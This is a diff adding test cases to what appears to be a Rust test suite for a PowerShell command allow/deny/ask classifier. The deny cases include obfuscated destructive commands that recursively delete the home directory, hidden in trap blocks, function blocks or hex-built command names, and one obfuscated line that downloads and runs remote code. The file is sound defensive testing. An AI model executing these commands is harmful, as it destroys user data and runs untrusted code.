@@ -74,6 +74,11 @@ fn everyday_commands_run() {
         ),
         ("cmd /c dir", "allow"),
         ("# rm -r ~\nGet-Date", "allow"),
+        ("trap [Exception] { 'x' }; Get-Date", "allow"),
+        (
+            "function f { begin { 'a' } process { Get-Date } }; f",
+            "allow",
+        ),
     ]);
 }
 
@@ -109,6 +114,13 @@ fn dangers_are_denied() {
             "deny",
         ),
         ("$a='rm'; & $a -r ~", "deny"),
+        (
+            "& ([char][Convert]::ToInt32('72',16) + [char][Convert]::ToInt32('0x69',16)) -r ~",
+            "deny",
+        ),
+        ("function f { process { ri -r ~ } }; f", "deny"),
+        ("trap { ri -r ~ }; Get-Date", "deny"),
+        ("trap [Exception] { ri -r ~ }; Get-Date", "deny"),
         ("& ('r'+'i') -Rec -Fo $HOME", "deny"),
         ("&('{1}{0}' -f 'ex','i') (iwr http://x.example)", "deny"),
         ("$s='~ er- ir'; iex ($s[-1..-8] -join '')", "deny"),
@@ -188,6 +200,7 @@ fn dangers_are_denied() {
 fn what_is_not_known_asks() {
     check(&[
         ("frobnicate x", "ask"),
+        ("process x", "ask"),
         ("& $unknown x", "ask"),
         ("Get-ChildItem -Frob", "ask"),
         (".\\build.ps1", "allow"),
